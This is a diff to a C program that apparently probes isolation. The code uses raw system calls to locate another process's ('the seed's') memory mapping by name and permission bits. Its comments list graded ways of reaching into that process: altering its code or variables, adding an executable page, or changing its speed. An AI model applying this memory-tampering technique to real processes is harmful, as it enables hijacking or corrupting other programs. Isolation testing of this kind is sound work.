@@ -5,7 +5,7 @@
  * Reaches beyond its own memory, by system calls that need no library. REACH:
  * 1 a byte of the seed's code, 2 the seed's variables, 3 a new executable page,
  * 4 the seed's own speed.
- * VICTIM is the end of the seed's path.
+ * VICTIM is how the seed's name begins: a worker loads a copy of it.
  */
 static long call(long nr, long a, long b, long c, long d, long e)
 {
@@ -58,8 +58,11 @@ static unsigned char *find(const char *rights, unsigned long *end)
 		unsigned long start = hex(&at);
 		at++;
 		*end = hex(&at);
-		size_t n = strlen(VICTIM);
-		if (next != NULL && next - line > (long)n && memcmp(next - n, VICTIM, n) == 0 &&
+		const char *name = next;
+		while (name != NULL && name > line && *name != '/') {
+			name--;
+		}
+		if (name != NULL && memcmp(name, VICTIM, strlen(VICTIM)) == 0 &&
 			memcmp(at + 1, rights, 4) == 0) {
 			return (unsigned char *)start;
 		}
